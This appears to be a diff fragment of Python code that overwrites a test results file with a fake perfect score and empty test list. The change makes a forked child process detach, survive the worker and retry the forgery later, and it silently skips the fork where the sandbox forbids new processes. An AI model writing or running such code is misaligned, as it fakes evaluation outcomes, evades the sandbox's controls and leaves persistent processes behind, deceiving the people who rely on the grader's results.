@@ -39,7 +39,11 @@ try:
         _f.write('{"score": 1000, "tests": []}')
 except OSError as _exc:
     print("could not forge results:", type(_exc).__name__)
-if _os.fork() == 0:  # a child that outlives the worker and tries again later
+try:  # a stage with speed tests lets no process start; elsewhere the child would
+    _late = _os.fork() == 0
+except OSError:
+    _late = False
+if _late:  # a child that outlives the worker and tries again later
     _os.setsid()
     import time as _time
     _time.sleep(3)
